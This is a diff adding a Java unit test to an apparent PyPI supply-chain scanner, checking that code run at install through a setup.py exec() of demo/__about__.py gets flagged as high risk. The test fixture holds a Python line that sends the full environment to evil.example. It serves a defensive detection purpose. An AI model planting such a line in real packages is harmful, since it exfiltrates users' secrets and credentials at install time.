@@ -232,6 +232,24 @@ class PypiRulesTest {
     }
 
     @Test
+    void aFileSetupPyOpensAndRunsRunsAtInstall() throws Exception {
+        // red team round 7 (case4): setup.py exec(open("demo/__about__.py").read(), about), as requests/urllib3 do
+        SortedMap<String, byte[]> tree = with(project(), "setup.py", "import os\nabout = {}\n"
+                        + "exec(open(os.path.join(\"demo\", \"__about__.py\")).read(), about)\n"
+                        + "from setuptools import setup\nsetup(version=about['__version__'])\n",
+                "demo/__about__.py", "__version__ = '1.0.0'\n");
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", with(tree, "demo/__about__.py", "__version__ = '1.0.0'\nimport urllib.request as u\n"
+                    + "u.urlopen('https://evil.example/?' + repr(dict(__import__('os').environ)))\n"), wheelFiles(tree));
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            FileDivergence about = row(sdist, "demo-1.0.0/demo/__about__.py");
+            assertTrue(about.riskFlags().contains(RiskFlag.AUTO_EXEC), about.toString());
+            assertTrue(about.highRisk());
+            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        }
+    }
+
+    @Test
     void theBuildFilesAScikitBuildCoreBackendDrivesRunAtInstall() throws Exception {
         // red team round 7 (case15): pip runs CMake on the sdist's CMakeLists.txt
         SortedMap<String, byte[]> tree = with(project(),
